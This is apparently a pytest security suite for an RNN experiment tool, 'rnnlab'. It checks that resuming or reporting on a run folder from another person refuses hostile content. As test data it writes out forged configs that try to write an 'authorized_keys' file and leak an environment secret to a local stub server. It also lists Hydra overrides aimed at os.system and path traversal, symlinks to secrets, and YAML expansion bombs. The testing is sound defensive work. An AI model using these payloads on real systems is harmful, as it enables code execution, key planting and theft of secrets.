"""Going on with a folder that another person sent is as safe as opening a picture."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import threading
from pathlib import Path

import pytest

from commands import run
from rnnlab._common.errors import ConfigError
from rnnlab.config.stored_words import not_taken
from rnnlab.runs import stack as experiment
from rnnlab.runs.folder import (
    BEST,
    CHECKPOINTS,
    CURVE,
    EVENTS,
    HYDRA,
    LAST,
    MESSAGES,
    METRICS,
    RESULT,
    ROW,
    SAMPLES,
)
from rnnlab.runs.result import Result, Status
from rnnlab.runs.resume import resume
from rnnlab.studies.job import Job
from rnnlab.studies.plan import Plan
from rnnlab.studies.report.write import write_report
from rnnlab.studies.view import StudyView

TINY = ["num_hiddens=4", "batch_size=2", "num_steps=5", "num_epochs=2", "log.sample_length=5"]
TINY += ["dataset.max_tokens=200", "dataset.val_fraction=0.2"]


@pytest.fixture
def folder(compose) -> Path:
    """A run that could be longer."""
    experiment.run(compose(*TINY), Path("run"))
    return Path("run")


@pytest.fixture
def asked_for():
    """What a server is asked for, and its address."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"ssh-rsa evil")

        def log_message(self, format, *args):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        thread = threading.Thread(target=running.serve_forever)
        thread.start()
        yield asked, f"http://127.0.0.1:{running.server_port}"
        running.shutdown()
        thread.join()


def change(folder: Path, **values) -> None:
    path = folder / RESULT
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


# --- what a stored file chooses --------------------------------------------------------------


@pytest.mark.attack(1, "a stored config that downloads, reads the environment, writes elsewhere")
@pytest.mark.parametrize("command", ["resume", "reproduce"])
def test_a_stored_config_downloads_nothing(folder, asked_for, monkeypatch, command):
    asked, address = asked_for
    monkeypatch.setenv("SECRET", "s3cret")
    config = json.loads((folder / RESULT).read_text())["config"]
    cut = {name: config["dataset"][name] for name in ("clean", "token", "min_freq", "max_tokens")}
    config["num_epochs"] = 4
    config["dataset"] = cut | {
        "name": "download", "val_fraction": 0.2, "prefixes": [], "sha256": "0" * 64,
        "file": "authorized_keys", "root": str(Path("home/.ssh").absolute()),
        "urls": [address + "/${oc.env:SECRET}"],
    }  # fmt: skip
    change(folder, config=config)
    status, _, err = run(command, str(folder), module=True)
    assert status == 2
    assert "downloaded for a command that you type only" in err
    assert (asked, Path("home").exists(), "s3cret" in err) == ([], False, False)


TAKEN = """-m lr=0.3,1,3 seed=range(0,3) model=rnn,gru model=choice(rnn,lstm) on_invalid=skip
    model=glob(*) dataset.prefixes=[a,b] dataset.path='a,b/c' optimizer.options.betas=0.9
    +optimizer.options.momentum_decay=0.1 hydra/sweeper=optuna hydra/sweeper/sampler=tpe
    hydra.sweeper.n_trials=20 hydra.sweeper.sampler.seed=3 hydra.launcher.workers=2
    hydra.sweeper.params.lr=interval(0.1,3) +hydra.sweeper.params.theta=1,5
    hydra/launcher=stacked lr=interval(0.1,3) experiment=chapter_random
    experiment='2024_01'""".split()
REFUSED = """+hydra.callbacks.x={_target_:torch.hub.load} hydra.callbacks.x._target_=os.system
    hydra.sweep.subdir=../../x hydra.sweep.dir=/tmp/x hydra.run.dir=/tmp/x hydra.job.chdir=true
    hydra.searchpath=[file:///tmp/x] hydra.job.env_set.PATH=x hydra.output_subdir=x --config-dir=x
    --config-path=evil -cn=evil evil hydra.sweeper.sampler._target_=os.system hydra/callbacks=x
    hydra.sweeper.sampler={_target_:os.system} hydra.sweeper.storage=sqlite:///x +hydra.sweeper.x=1
    hydra.launcher._target_=os.system hydra/launcher=submitit_slurm hydra/sweeper=../../evil
    experiment=../../evil experiment=/tmp/evil experiment=choice(../../evil,x) model@x=rnn ~model
    experiment='../../evil' dataset.path='${oc.env:HOME}' dataset.path=$\\{oc.env:HOME\\}
    dataset.prefixes=[$\\{oc.env:HOME\\}] lr=choice(1,'${oc.env:HOME}')
    lr=${oc.env:SECRET} dataset.path=${oc.env:HOME} ${lr}=1 +evil=1 ++evil=1 resume=other
    hydra.launcher.workers={a:1} model=range(0,1000000000) sweep=/tmp/x plan=true""".split()


@pytest.mark.attack(2, "words of a stored command that run code or write elsewhere")
def test_the_words_that_a_studys_folder_may_say_are_a_closed_list():
    assert not_taken(TAKEN) == []
    assert not_taken(REFUSED) == REFUSED


@pytest.fixture
def study() -> Path:
    assert run("-m", *TINY, "seed=0,1", "sweep=S")[0] == 0
    return Path("S")


def add_words(study: Path, *words: str) -> None:
    path = study / "commands.jsonl"
    path.write_text(json.dumps(json.loads(path.read_text()) + list(words)) + "\n")


@pytest.mark.attack(2, "a study whose stored command has a callback")
def test_a_stored_callback_is_shown_and_only_a_person_may_say_it(study):
    Path("evil.py").write_text("import pathlib; pathlib.Path('RAN').touch()\n")
    word = "+hydra.callbacks.x={_target_:evil.Callback}"
    add_words(study, word)
    status, _, err = run("resume", "S", module=True)
    assert status == 2
    assert err.count("\n") == 1
    assert f"'{word}'" in err
    assert f"rnnlab resume S '{word}'" in err
    assert not Path("RAN").exists()
    status, _, err = run("resume", "S", "hydra.callbacks={}", module=True)
    assert status == 2  # another word does not stand for it


def test_a_word_that_is_typed_is_taken(study):
    Path("own/experiment").mkdir(parents=True)
    add_words(study, "--config-dir=own")
    assert run("resume", "S", module=True)[0] == 2
    assert run("resume", "S", "--config-dir=own", module=True)[0] == 0


@pytest.mark.attack(2, "a study whose stored command downloads")
def test_a_stored_command_downloads_nothing(study, asked_for):
    asked, address = asked_for
    words = ("dataset=time_machine", f"dataset.urls=[{address}/x]", "dataset.file=authorized_keys")
    add_words(study, *words, f"dataset.root={Path('home').absolute()}")
    status, _, err = run("resume", "S", module=True)
    assert status == 2
    assert "downloaded for a command that you type only" in err
    assert (asked, Path("home").exists()) == ([], False)


# --- what the names in a folder lead to ------------------------------------------------------

OURS = [RESULT, METRICS, SAMPLES, MESSAGES, CURVE, CHECKPOINTS, LAST, BEST, HYDRA, ".lock", EVENTS]
OURS += [ROW]
REPORTS = ["report.html", "report.md", "results.csv", "commands.jsonl"]
FOLDERS = [CHECKPOINTS, HYDRA]  # which can have no hard links
LINKS = [(name, os.symlink) for name in OURS + REPORTS]
LINKS += [(name, os.link) for name in OURS + REPORTS if name not in FOLDERS]


def named(folder: Path, name: str) -> Path:
    return next(folder.glob(EVENTS + "*")) if name == EVENTS else folder / name


def use(folder: Path) -> None:
    """All that is done with a run's folder; a refusal is an answer."""
    for what in (lambda: resume(folder, {"num_epochs": 3}), lambda: write_report(folder)):
        try:
            what()
        except (ConfigError, OSError) as error:
            assert str(error)


@pytest.mark.attack(3, "a link to a file or folder outside, for each name in a run's folder")
@pytest.mark.parametrize(("name", "kind"), LINKS)
def test_a_link_leads_nowhere(folder, name, kind):
    """What it leads to is neither read as the run's nor written to."""
    path, outside = named(folder, name), Path("outside")
    if name in FOLDERS:
        shutil.move(path, outside) if path.exists() else outside.mkdir()
    elif path.exists():
        path.rename(outside)
    else:
        outside.write_bytes(b"mine")
    kind(outside.absolute(), path)
    before = contents(outside)
    use(folder)
    assert contents(outside) == before


def contents(path: Path) -> dict[str, bytes]:
    files = [path, *path.rglob("*")] if path.is_dir() else [path]
    return {str(file): file.read_bytes() for file in files if file.is_file()}


@pytest.mark.attack(3, "a pipe in place of each file: nothing waits for it")
@pytest.mark.parametrize("name", [*OURS, *REPORTS])
def test_a_pipe_is_not_waited_for(folder, name):
    path = named(folder, name)
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    use(folder)


@pytest.mark.attack(3, "a failed job whose log is a pipe or a link")
@pytest.mark.parametrize("kind", ["pipe", "link"])
def test_the_log_of_a_failed_job_is_shown_only_if_it_is_the_runs(folder, compose, capsys, kind):
    corpus = None  # nobody looks at it
    job = Job(0, ("lr=1",), compose(*TINY), corpus, folder)  # pyrefly: ignore
    result = Result.read(folder)
    result.status = Status.failed
    (folder / MESSAGES).unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(folder / MESSAGES)
    else:
        Path("secret").write_text("my secret\n")
        (folder / MESSAGES).symlink_to(Path("secret").absolute())
    StudyView(Path("S"), Plan([(job.overrides, job)])).ended(job, result)
    shown = capsys.readouterr().out
    assert "job 0 failed" in shown
    assert "my secret" not in shown


@pytest.mark.attack(3, "a device, and a file beyond all size, in place of each file")
@pytest.mark.parametrize("name", [RESULT, METRICS, SAMPLES, LAST, HYDRA + "/overrides.yaml"])
@pytest.mark.parametrize("kind", ["device", "sparse"])
def test_what_never_ends_is_not_read(folder, name, kind):
    path = named(folder, name)
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    if kind == "device":
        path.symlink_to("/dev/zero")
    else:
        with path.open("wb") as file:
            file.truncate(1 << 40)
    use(folder)


# --- what is forged in it --------------------------------------------------------------------


PAIRS = list(zip("abcdefghi", "bcdefghij", strict=True))
LISTS = "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in PAIRS)
MERGES = "".join(f"- &{b} {{<<: [{f'*{a},' * 9}]}}\n" for a, b in PAIRS)


@pytest.mark.attack(5, "YAML whose references grow beyond all memory, in overrides.yaml")
@pytest.mark.parametrize(
    "text",
    [
        f"a: &a [x]\n{LISTS}",
        f"- &a {{x: 1}}\n{MERGES}",
        "[" * 30_000,
        "- lr=1\n" * 9_000,
        "- ${${${${oc.env:HOME}}}}\n",
    ],
)
def test_overrides_that_grow_are_not_followed(folder, text):
    (folder / HYDRA).mkdir(exist_ok=True)
    (folder / HYDRA / "overrides.yaml").write_text(text)
    use(folder)
    assert "Best" in (folder / "report.md").read_text()


@pytest.mark.attack(5, "a stack that names folders elsewhere")
@pytest.mark.parametrize("name", ["..", "../x", "/etc", "a/b", "a\0b"])
def test_a_stack_is_of_folders_beside_each_other(folder, name):
    change(folder, stack=[name, "run"])
    with pytest.raises(ConfigError, match="another name than a folder's"):
        Result.read(folder)
